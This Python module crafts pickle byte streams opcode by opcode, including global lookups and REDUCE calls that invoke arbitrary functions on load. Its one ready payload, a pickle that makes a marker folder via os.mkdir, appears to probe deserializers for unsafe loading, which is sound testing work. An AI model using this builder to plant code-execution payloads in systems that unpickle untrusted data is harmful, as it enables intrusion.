"""Pickles written opcode by opcode, for what no honest pickler writes."""

from __future__ import annotations

import struct
from typing import Any, NamedTuple


class Named(NamedTuple):
    """A global that is pushed."""

    module: str
    name: str


class Call(NamedTuple):
    """A call that is made, and its result pushed."""

    callee: Any
    args: tuple[Any, ...]


class Raw(NamedTuple):
    """Opcodes as they are; they leave one value."""

    code: bytes


def value(each: Any, stack: bool = False) -> bytes:
    """The opcodes that push a value; globals by STACK_GLOBAL if `stack`."""
    if isinstance(each, Raw):
        return each.code
    if isinstance(each, Named):
        if stack:
            return text(each.module) + text(each.name) + b"\x93"
        return b"c" + each.module.encode() + b"\n" + each.name.encode() + b"\n"
    if isinstance(each, Call):
        return value(each.callee, stack) + value(each.args, stack) + b"R"
    if each is None or isinstance(each, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[each]
    if isinstance(each, int):
        return b"J" + struct.pack("<i", each)
    if isinstance(each, str):
        return text(each)
    if isinstance(each, bytes):
        return b"B" + struct.pack("<I", len(each)) + each
    if isinstance(each, tuple):
        return b"(" + b"".join(value(item, stack) for item in each) + b"t"
    if isinstance(each, list):
        return b"](" + b"".join(value(item, stack) for item in each) + b"e"
    if isinstance(each, dict):
        return b"}(" + b"".join(value(key, stack) + value(item, stack) for key, item in each.items()) + b"u"
    raise TypeError(type(each))


def text(each: str) -> bytes:
    """A string of up to four gigabytes."""
    content = each.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def program(each: Any, protocol: int = 2, stack: bool = False) -> bytes:
    """A whole pickle of one value."""
    head = b"" if protocol < 2 else b"\x80" + bytes((protocol,))
    return head + value(each, stack or protocol >= 4) + b"."


def making_folder(marker: str, protocol: int = 2) -> bytes:
    """The plainest attack: a folder is made."""
    return program(Call(Named("os", "mkdir"), (marker,)), protocol)
